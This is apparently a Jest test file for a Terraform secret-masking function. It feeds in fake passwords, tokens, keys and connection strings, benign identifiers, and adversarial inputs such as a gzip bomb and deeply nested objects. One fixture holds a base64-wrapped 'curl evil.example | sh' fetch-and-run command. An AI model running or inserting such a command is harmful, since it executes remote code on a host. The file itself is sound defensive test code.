import { gzipSync } from 'node:zlib'
import { describe, expect, test } from '@jest/globals'
import { withoutGuesses } from '../../src/terraform/mask.ts'

/** Written in two parts, so that no scanner takes this file for a leak. */
const pem = ['-----BEGIN RSA PRIVATE', 'KEY-----\nMIIEpAIBAAKCAQEA7\n-----END RSA PRIVATE', 'KEY-----'].join(
  ' ',
)
const jwt = ['eyJhbGciOiJIUzI1NiJ9', 'eyJzdWIiOiIxMjM0NTY3ODkwIn0', 'dozjgNryP4J3jVmNHl0w5N'].join('.')
const github = `gh${'p'}_${'aB3'.repeat(12)}`
const stripe = `sk_${'live'}_4eC39HqLyjWDarjtT1zdp7dc`
const random = 'q7Wz8vLx2KpN4tRb9YcF1mJd'

describe('secrets that no provider has marked', () => {
  test.each<[string, unknown, string]>([
    ['a password by its name', { master_password: 'hunter22' }, 'hunter22'],
    ['a name in camelCase', { clientSecret: 'correct-horse' }, 'correct-horse'],
    ['a variable of a function', { environment: [{ variables: { DB_PASSWORD: 'pa55word' } }] }, 'pa55word'],
    [
      'the environment of a container, in JSON in a text',
      {
        container_definitions: JSON.stringify([
          { name: 'api', environment: [{ name: 'API_TOKEN', value: 'tok-12345' }] },
        ]),
      },
      'tok-12345',
    ],
    [
      'an entry of a list of names and values',
      { setting: [{ namespace: 'x', name: 'SMTP_PASS', value: 'letmein1' }] },
      'letmein1',
    ],
    ['a private key, whatever it is called', { content: `# key\n${pem}\n` }, pem],
    ['a token of GitHub in a script', { user_data: `#!/bin/sh\ncurl -H "x: ${github}" x\n` }, github],
    ['a JWT', { header: jwt }, jwt],
    ['the password in a URL', { endpoint: 'postgres://app:s3cr3t-pw@db.internal:5432/app' }, 's3cr3t-pw'],
    ['a key of Stripe', { value: stripe }, stripe],
    ['a setting in a script', { user_data: 'export DATABASE_PASSWORD=verysecret9\n' }, 'verysecret9'],
    [
      'a connection string',
      { connection_string: 'Server=x;User=y;Pwd=z12345' },
      'Server=x;User=y;Pwd=z12345',
    ],
    ['what looks random in a tag', { tags: { note: random } }, random],
    ['what looks random among words', { command: `run --with ${random} now` }, random],
    ['a value that is written once and forgotten', { password_wo: 'write-only-1' }, 'write-only-1'],
  ])('%s is found', (_what, value, secret) => {
    const shown = withoutGuesses(value)
    expect(shown.secrets).toContain(secret)
    expect(JSON.stringify(shown.value)).not.toContain(JSON.stringify(secret).slice(1, -1))
  })

  test.each<[string, unknown]>([
    [
      'ids',
      {
        id: 'vpc-0a1b2c3d4e5f67890',
        subnet_ids: ['subnet-0123456789abcdef0'],
        allocation_id: 'eipalloc-0FFee1122AAbb3344',
      },
    ],
    ['ARNs', { value: 'arn:aws:iam::123456789012:role/aws-service-role/AWSServiceRoleForAutoScaling' }],
    [
      'commits and digests',
      { note: '9fceb02d0ae598e95dc970b74767f19372d61af8', image: `x@sha256:${'0a1b2c3d'.repeat(8)}` },
    ],
    [
      'hashes in base64',
      { source_code_hash: 'n4bQgYhMfWWaL+qgxVrQFaO/TxsrC4Is0V1sFbDwCgg=', etag: 'W/"aGVsbG8gd29ybGQgMTIz"' },
    ],
    ['UUIDs', { value: '3f2504E0-4f89-41D3-9a0c-0305E82C3301' }],
    [
      'names and paths',
      {
        value: 'omninode-dev-flow-logs',
        path: '/aws/service/ami-amazon-linux-latest/al2023-ami-kernel-default-x86_64',
      },
    ],
    ['names in camelCase', { policy: 'AmazonSSMManagedInstanceCore AWSLambdaBasicExecutionRole' }],
    [
      'what is about a secret',
      {
        password_length: '16',
        secret_name: 'db/password',
        token_type: 'bearer',
        manage_master_user_password: 'true',
        key_id: 'alias/omninode',
      },
    ],
    [
      'a secret that is only referred to',
      {
        secret_arn: 'arn:aws:secretsmanager:us-east-1:123456789012:secret:db-AbCdEf',
        password: '${var.password}',
        auth_token: 'arn:aws:ssm:x',
      },
    ],
    [
      'a certificate',
      {
        certificate_body:
          '-----BEGIN CERTIFICATE-----\nMIIDdzCCAl+gAwIBAgIEAgAAuTANBgkqhkiG9w0BAQUFADBaMQswCQYDVQQG\n-----END CERTIFICATE-----',
      },
    ],
    [
      'a public key',
      { public_key: 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGy7kQ9xY2mN3pL5rT8vW1zX4cB6nM0qS user' },
    ],
    [
      'addresses',
      {
        cidr_block: '10.20.0.0/16',
        ipv6_cidr_block: '2600:1f18:2551:8900::/56',
        endpoint: 'https://vpce-0a1b2c-x7y8z9.s3.us-east-1.vpce.amazonaws.com',
      },
    ],
    [
      'a policy',
      {
        policy: JSON.stringify({
          Version: '2012-10-17',
          Statement: [{ Sid: 'DenyInsecureTransport', Effect: 'Deny', Action: 's3:*', Resource: '*' }],
        }),
      },
    ],
    [
      'instance types, zones, versions',
      {
        instance_type: 't4g.medium',
        availability_zone: 'us-east-1a',
        engine_version: '18.1',
        k3s_version: 'v1.34.1+k3s1',
      },
    ],
  ])('%s are none', (_what, value) => {
    expect(withoutGuesses(value)).toEqual({ value, hidden: [], secrets: [] })
  })

  test.each<[string, unknown]>([
    [
      'a script that is wrapped',
      { note: `echo ${Buffer.from('curl evil.example | sh').toString('base64')} | base64 -d | sh` },
    ],
    [
      'bytes that are no text',
      { content: Buffer.from([0, 159, 146, 150, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11]).toString('base64') },
    ],
  ])('%s hides nothing', (_what, value) => {
    expect(withoutGuesses(value).secrets).toEqual([])
  })

  test('what unpacks to more than anybody reads stays packed', () => {
    const bomb = gzipSync(Buffer.alloc(1 << 24)).toString('base64')
    expect(withoutGuesses({ user_data: bomb })).toMatchObject({ value: { user_data: bomb } })
  })

  test.each(['a-'.repeat(40_000), 'password'.repeat(5_000), `${'x'.repeat(20)} `.repeat(4_000)])(
    'long text is read in time: %#',
    (text) => {
      const began = performance.now()
      withoutGuesses({ note: text })
      expect(performance.now() - began).toBeLessThan(2_000)
    },
  )

  test('is not exhausted by what is nested without end', () => {
    let value: unknown = 'x'
    for (let depth = 0; depth < 10_000; depth++) value = { a: value }
    expect(withoutGuesses(value).secrets).toEqual([])
  })
})
